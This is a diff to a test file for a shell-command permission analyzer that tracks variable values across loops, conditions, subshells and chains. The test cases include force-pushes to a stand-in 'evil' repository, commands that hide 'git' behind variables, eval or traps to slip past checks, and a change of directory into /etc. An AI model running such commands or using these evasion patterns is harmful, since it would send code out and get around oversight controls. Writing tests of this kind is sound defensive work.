@@ -46,18 +46,14 @@ def test_followed_values_are_written_in(command: str, argv: tuple[str, ...]) -> 
 @pytest.mark.parametrize(
     "command",
     [
-        "X=ls; for i in 1 2; do $X push; X=git; done",  # written in a loop
-        "X=ls; if true; then X=git; fi; $X push",  # in a condition
         "X=ls; f() { $X push; }; X=git; f",  # a body runs later
         "f() { X=git; $X push; }; f",  # a body's own assignments are not followed
-        "X=ls; (X=git); $X push",  # in a subshell
         "X=git & $X push",  # in a background job
         "true || X=git; $X push",  # the second of a chain
         "X=git cmd; $X push",  # a command prefix
         "X=ls; read X; $X push",
         "X=ls; unset X; $X push",
         "X=ls; eval X=git; $X push",
-        "X=ls; : ${X:=git}; $X push",
         "X=ls; (( X++ )); $X push",
         "X=ls; exec {X}>/dev/null; $X push",
         "X=ls; trap 'X=git' DEBUG; $X push",
@@ -77,6 +73,22 @@ def test_values_not_certain_stay_run_time(command: str) -> None:
 
 
 @pytest.mark.parametrize(
+    ("command", "argvs"),
+    [
+        ("X=ls; for i in 1 2; do $X push; X=git; done", {("ls", "push"), ("git", "push")}),  # written in a loop
+        ("X=ls; if true; then X=git; fi; $X push", {("ls", "push"), ("git", "push")}),  # in a condition
+        ("X=ls; (X=git); $X push", {("ls", "push")}),  # a subshell's assignment stays there
+        ("X=ls; : ${X:=git}; $X push", {("ls", "push")}),  # already set
+        ("X=; : ${X:=git}; $X push", {("git", "push")}),
+    ],
+)
+def test_every_value_a_path_may_give_is_judged(command: str, argvs: set[tuple[str, ...]]) -> None:
+    analysis = analyze(command)
+    assert {c.argv for c in analysis.commands if "push" in c.argv} == argvs
+    assert not analysis.unknown, analysis
+
+
+@pytest.mark.parametrize(
     ("command", "verdict"),
     [
         (f"X=git; $X push --force {EVIL}", "DENY"),
@@ -84,7 +96,7 @@ def test_values_not_certain_stay_run_time(command: str) -> None:
         (f'export CMD="git push {EVIL}"; $CMD', "DENY"),
         ("U=https://github.com/evil/repo; git push $U main", "DENY"),
         (f'G="git push"; "$G" {EVIL}', "ASK"),
-        (f"X=ls; for i in 1 2; do $X push {EVIL}; X=git; done", "ASK"),
+        (f"X=ls; for i in 1 2; do $X push {EVIL}; X=git; done", "DENY"),
         ("X=git; $X status", "ALLOW"),
         ("B=feature/x; git push https://github.com/myorg/app $B", "ALLOW"),
         ('V=1.2; docker build -t "app:$V" . && docker run --rm "app:$V" pytest', "ALLOW"),
@@ -102,7 +114,7 @@ def test_github_policy_judges_followed_values(command: str, verdict: str) -> Non
         ("D=/work/repo/src; cd $D && ls", "ALLOW"),
         ('D=src; cd "$D" && ls', "ALLOW"),
         ("OUT=build; mkdir -p $OUT && make -C $OUT", "ALLOW"),
-        ("D=/work/repo; true && D=/etc; cd $D", "ASK"),
+        ("D=/work/repo; true && D=/etc; cd $D", "DENY"),
     ],
 )
 def test_working_dir_judges_followed_values(command: str, verdict: str) -> None:
